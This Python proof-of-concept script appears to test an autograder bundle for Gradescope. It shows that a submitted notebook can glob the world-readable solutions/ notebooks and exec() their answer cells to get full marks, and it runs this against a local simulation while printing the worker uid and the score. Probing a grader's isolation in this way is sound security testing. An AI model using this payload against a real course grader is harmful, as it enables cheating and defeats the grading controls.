"""Gradescope's containers usually cannot create user namespaces, so the worker runs at the process level,
as a uid of its own where Python is readable to it (the bundle's venv in /opt is). The bundle unzips
world-readable into /autograder/source, solutions/ included, and nothing in setup.sh or run_autograder
closes it. A submission that reads solutions/decode.ipynb and exec()s its answer cells then gets full marks.

Simulation: the bundle unzipped in ROOT/source (ROOT=/tmp/h5/ag), a venv of the system Python (world-readable,
like /opt/inference-grader-venv) as GRADER_VENV, GRADER_ISOLATION=process as on Gradescope.
Needs /tmp/h5/gsvenv, a venv of the system Python (world-readable, as on Gradescope):
  /usr/bin/python3 -m venv --without-pip /tmp/h5/gsvenv && cp -al <pyenv 3.11 site-packages>/. /tmp/h5/gsvenv/lib/python3.11/site-packages/
  then remove its __editable__.inference_grader*.pth, and build the bundle into /tmp/h5/ag/source
  (grade gradescope-bundle --lesson decode -o /tmp/h5/ag.zip; unzip -q /tmp/h5/ag.zip -d /tmp/h5/ag/source).
Usage: python3 attacks/gradescope_process_reads_solution.py
"""
import sys, json, os, subprocess, shutil, pathlib
sys.path.insert(0, __file__.rsplit("/", 1)[0])
from _nb import *
root = pathlib.Path("/tmp/h5/ag")
src = '''
import json as _j, glob as _g
for _p in _g.glob("/autograder/source/solutions/*.ipynb") + _g.glob("/tmp/h5/ag/source/solutions/*.ipynb"):
    for _c in _j.load(open(_p))["cells"]:
        if _c["cell_type"] == "code" and "self-check" not in _c["metadata"].get("tags", []):
            exec("".join(_c["source"]), globals())
    break
'''
shutil.rmtree(root / "submission", ignore_errors=True); shutil.rmtree(root / "results", ignore_errors=True)
(root / "results").mkdir(parents=True)
nb = append(append(load("decode", "notebooks"), src), "import os\nraise RuntimeError(f'evidence: worker uid {os.getuid()}, solution read by exec')")
write(nb, root / "submission/decode.ipynb")
env = {"PATH": "/usr/bin:/bin", "HOME": "/root", "AUTOGRADER_ROOT": str(root), "GRADER_VENV": "/tmp/h5/gsvenv",
       "GRADER_ISOLATION": "process", "GRADER_CACHE_DIR": "/tmp/h5/ag/cache", "GRADER_DAEMON": "off"}
p = subprocess.run(["nice", "-n", "10", str(root / "source/run_autograder")], capture_output=True, text=True, env=env)
print("rc", p.returncode, p.stderr[-1500:])
r = json.loads((root / "results/results.json").read_text())
print("score", r["score"], "|", r["output"][:600])
